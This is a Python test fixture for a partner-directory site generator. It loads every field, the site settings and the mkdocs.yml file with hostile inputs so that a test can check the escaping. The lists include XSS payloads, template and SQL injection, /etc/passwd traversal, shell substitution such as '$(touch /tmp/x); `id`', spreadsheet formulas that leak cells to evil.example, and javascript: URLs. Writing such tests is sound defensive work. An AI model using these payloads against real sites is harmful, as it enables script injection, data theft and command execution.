"""A directory in which every text field is an attack, for `test_hostile`. Each attack calls `x()` if it ever runs."""

import json
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path

import yaml

from better_fit.model import (
    Contact,
    Directory,
    Expects,
    Facet,
    Partner,
    Proof,
    Recommendation,
    Term,
    Vocabulary,
)
from better_fit.problems import Fault
from better_fit.reading.rules import judge

#: What a line of text may try. None holds what no text field takes, so that the validator lets most of them through.
LINES = (
    "<script>x()</script>",
    '"><img src=x onerror=x()>',
    "'-x()-'",
    "</title><svg onload=x()>",
    "</script><script>x()</script>",
    "<!--",
    "--><svg/onload=x()>",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>",
    "&lt;b&gt;",
    "&amp;",
    "&#106;avascript:x()",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example/a.css'</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<template><img src=x onerror=x()></template>",
    "<math><mi xlink:href=javascript:x()>k</mi></math>",
    "<iframe srcdoc='<script>parent.x()</script>'></iframe>",
    "<a href=javascript:x()>k</a>",
    "<input autofocus onfocus=x()>",
    "<details open ontoggle=x()>",
    "</textarea></noscript></template><script>x()</script>",
    "<plaintext>",
    "<<script>x()//<</script>",
    'k" onmouseover="x()" autofocus onfocus="x()',
    "k' onfocus='x()' autofocus '",
    "k` onload=x() `=",
    '\\";x();//',
    "\\u003cscript\\u003ex()\\u003c/script\\u003e",
    "%3Cscript%3Ex()%3C/script%3E",
    "javascript:x()",
    "${x()} ${7*7}",
    "{{7*7}} {{ config }} {{ self.__class__ }}",
    "{% raw %}{% include '/etc/passwd' %}{# x #}",
    '--8<-- "/etc/passwd"',
    "[k](javascript:x())",
    "<javascript:x()>",
    "![k](//evil.example/beacon.png)",
    "[k]: data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
    "# not a heading",
    "| a | b |",
    "``` not code",
    "{: onclick=x() #__config }",
    "*[Acme]: <img src=x onerror=x()>",
    "- [ ] [TOC] :material-close: [^1]",
    "AT&T <3 Q&A; 5 < 6 > 4",
    """O'Reilly & "Söhne" `GmbH` \\ Co.""",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "END:VCARD",
    "a;b,c:d\\ne",
    "__proto__",
    "constructor",
    "undefined null NaN true",
    "../../../../etc/passwd",
    "$(touch /tmp/x); `id` | cat; %s%n%d",
    "'; DROP TABLE partners; --",
    "::error::x ##[error]x ::add-mask::x",
    "مكتب النباتات (ذ.م.م)",
    "משרד צמחים 3 < 4",
    "緑の庭園株式会社 & 合同会社",
    "Ǹ̈a̋ḿé 👩 Straße ﬁ İı",
    "W" * 80,
    "🚀🚀 1",
)
#: What the validator refuses, and what may reach the pages only if it fails.
FORCED = (
    "a\r\nEMAIL:evil@evil.example\r\nEND:VCARD\r\nBEGIN:VCARD",
    "k\n---\ntemplate: evil.html\n---\n<script>x()</script>",
    "k\u2028x()\u2029<script>x()</script>",
    "\u202ekcab\u2066 <img src=x onerror=x()>",
    "k\u200b\ufeff\u00ad\U000e0041",
    "k\x00\x01\x02\x03\x1b[31m\x7f<script>x()</script>",
    "\ufffe\uffff<script>x()</script>",
    "Z" + "\u0300" * 60,
    "<script>x()</script>" * 200,
)
#: Addresses that would run or lead astray if they became links.
FORCED_URLS = (
    "javascript:x()",
    "JaVaScRiPt:x()",
    "\x01javascript:x()",
    "java\nscript:x()",
    "data:text/html,<script>parent.x()</script>",
    "vbscript:x()",
    "//evil.example/",
    'https://k.example/" onmouseover="x()',
    "https://k.example/'><script>x()</script>",
)
#: The owner's settings are no more trusted than anybody's text.
SETTINGS = {
    "site_url": "https://better-fit.example/sub/",
    "site_name": "A&B <img src=x onerror=x()> \"'{{7*7}}",
    "site_description": '"><script>x()</script> &amp; {% raw %} </title>',
    "notice": "<img src=x onerror=x()> & </footer><script>x()</script>",
}
PLAIN = "Plain words"


def passes(kind: str, words: str, limit: int) -> bool:
    """Whether the rules take a text as it is."""
    try:
        judge(kind, words, limit)
    except Fault:
        return False
    return not words.endswith("\n")


def named(words: str, number: int) -> str:
    """A name made of a payload: no two names may look alike."""
    name = f"{words[:70]} {number}"
    return name if passes("name", name, 80) else f"{PLAIN} {number}"


def label(words: str, limit: int = 60) -> str:
    return words if passes("name", words, limit) else PLAIN


def line(words: str) -> str:
    return words if passes("line", words, 160) else PLAIN


def slug(number: int) -> str:
    return f"firm-{number}"


def _vocabulary(terms: Mapping[str, Term], words: Callable[[int], str], names: Callable[[int], str]) -> Vocabulary:
    """Four facets of which the first has a term for each payload."""
    facets = {"specialty": Facet("specialty", names(1), words(0), terms, 3000, True, True, True)}
    for place, facet in enumerate(("delivery", "style", "region"), 2):
        found = {f"{facet}-one": Term(f"{facet}-one", facet, names(place + 3), words(place))}
        covers = facet == "region"
        facets[facet] = Facet(facet, names(place), words(place), found, 1000, True, False, not covers, covers)
    return Vocabulary(facets)


def _firm(number: int, words: str, name: str, label: str, term: str, url: str, **more: object) -> Partner:
    others = {facet: (f"{facet}-one",) for facet in ("delivery", "style", "region")}
    return Partner(
        slug(number), name, words, url, Contact(f"k{number}@firm-{number}.example", "+1 303-555-0100", None, name),
        {"specialty": (term,), **others},
        best_for=(words,), not_for=(words,), description=words, expects=Expects((words,), (words,), (words,)),
        proof=(Proof(label, url),), recommends=(Recommendation(slug(0), words, "met", (), None, words),), **more,
    )  # fmt: skip


def accepted() -> Directory:
    """Every payload of `LINES` in every field that takes it."""
    terms = {
        f"term-{i}": Term(
            f"term-{i}", "specialty", f"{label(words, 50)} {i}", line(words), None, (), (f"{i} {label(words, 50)}",)
        )
        for i, words in enumerate(LINES)
    }
    pick = [w for w in LINES if label(w) == w]
    vocabulary = _vocabulary(terms, lambda i: line(LINES[i]), lambda i: f"{pick[i][:50]} {i}")
    firms = [
        _firm(i, line(words), named(words, i), label(words, 120), f"term-{i}", f"https://firm-{i}.example/?a='x'&b=c")
        for i, words in enumerate(LINES)
    ]
    return _together(vocabulary, firms)


def forced() -> Directory:
    """The same and worse, in every field, as if nothing had been checked."""
    payloads = (*LINES, *FORCED)
    terms = {
        f"term-{i}": Term(f"term-{i}", "specialty", words, words, None, (), (words,))
        for i, words in enumerate(payloads)
    }
    vocabulary = _vocabulary(terms, lambda i: payloads[i], lambda i: payloads[-i])
    firms = []
    for i, words in enumerate(payloads):
        url = FORCED_URLS[i % len(FORCED_URLS)]
        firm = _firm(i, words, words, words, f"term-{i}", url)
        firms.append(replace(firm, contact=Contact(f"{words}?bcc=e@evil.example", f"+1{words}2345", url, words)))
    return _together(vocabulary, firms)


def _together(vocabulary: Vocabulary, firms: list[Partner]) -> Directory:
    """Firm 0 is the home firm and recommends all others."""
    first = replace(
        firms[0],
        recommends=tuple(Recommendation(f.slug, f.summary, "met", (), None, f.summary) for f in firms[1:]),
    )
    firms[0] = first
    return Directory(vocabulary, {f.slug: f for f in sorted(firms, key=lambda f: f.slug)}, slug(0))


def write_settings(project: Path, pictures: int = 500) -> None:
    """Put the hostile words into `mkdocs.yml`, and leave no page that needs other words than ours."""
    settings = project / "mkdocs.yml"
    lines = settings.read_text().splitlines()
    found = [
        k
        for k in lines
        if not k.lstrip().startswith(("site_url:", "site_name:", "site_description:", "notice:", "home:"))
    ]
    place = next(i for i, k in enumerate(found) if "better-fit:" in k)
    found[place] = f"  - better-fit: {{home: {slug(0)}, pictures_up_to: {pictures}}}"
    found = [k for k in found if k.strip() != "extra:"]
    found += [f"{key}: {json.dumps(SETTINGS[key])}" for key in ("site_url", "site_name", "site_description")]
    found += [f"extra: {{notice: {json.dumps(SETTINGS['notice'])}}}"]
    settings.write_text("\n".join(found))
    for page in (project / "directory/pages").rglob("*.md"):
        if "need:" in page.read_text():
            page.unlink()


def write(directory: Directory, project: Path) -> None:
    """The directory as an owner and partners would write it."""
    for path in (project / "partners").iterdir():
        path.unlink()
    facets = {
        facet.id: {
            "label": facet.label, "question": facet.question, "required": "true",
            **{key: "true" for key in ("primary", "contrast", "covers") if getattr(facet, key)},
            "terms": {
                t.id: {"label": t.label, "definition": t.definition, "synonyms": list(t.synonyms)}
                for t in facet.terms.values()
            },
        }
        for facet in directory.vocabulary.facets.values()
    }  # fmt: skip
    _dump(project / "directory/vocabulary.yml", {"facets": facets})
    for partner in directory.partners.values():
        profile = {
            "name": partner.name, "summary": partner.summary, "website": partner.website,
            "contact": {key: getattr(partner.contact, key) for key in ("email", "phone", "person")},
            **{facet: list(terms) for facet, terms in partner.terms.items()},
            "best_for": list(partner.best_for), "not_for": list(partner.not_for), "description": partner.description,
            "expects": {key: list(getattr(partner.expects, key)) for key in ("information", "people", "deadlines")},
            "proof": [{"label": p.label, "url": p.url} for p in partner.proof],
            "recommends": [
                {"partner": r.partner, "because": r.because, "basis": r.basis, "fee": r.fee} for r in partner.recommends
            ],
            "confirmed": "2026-10-01",
        }  # fmt: skip
        _dump(project / f"partners/{partner.slug}.yml", profile)


def _dump(path: Path, value: object) -> None:
    class Quoted(yaml.SafeDumper):
        def ignore_aliases(self, data: object) -> bool:
            return True

    # Every scalar in quotes and on one line: what stands in the file is the text and nothing else.
    path.write_text(
        yaml.dump(value, Dumper=Quoted, default_style='"', allow_unicode=True, width=100_000, sort_keys=False)
    )
